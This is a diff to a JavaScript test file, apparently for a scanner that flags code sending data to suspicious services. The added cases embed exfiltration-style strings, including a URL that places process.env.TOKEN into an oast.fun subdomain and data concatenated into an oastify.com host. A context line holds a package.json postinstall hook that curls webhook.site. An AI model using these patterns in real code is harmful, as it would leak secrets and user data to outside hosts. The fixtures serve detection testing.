@@ -179,6 +179,16 @@ describe("services", () => {
     expect(briefly(await compared(library(known), library(known, text)))).toEqual(["high service"]);
   });
 
+  it.each([
+    '"api.telegram.org"',
+    ["`https://$", "{process.env.TOKEN}.oast.fun/`"].join(""),
+    '"https://" + data + ".oastify.com"',
+    "{ hostname: 'webhook.site', port: 443 }",
+    '"https://%s.trycloudflare.com/"',
+  ])("holds for %s, of which a part is put together", async (text) => {
+    expect(briefly(await compared("var a;", `send(${text})`, script))).toEqual(["high service"]);
+  });
+
   it("holds in the commands of a package, not in its description", async () => {
     const manifest = { path: "package.json", format: "data" };
     const command = '{"scripts":{"postinstall":"curl https://webhook.site/1"}}';
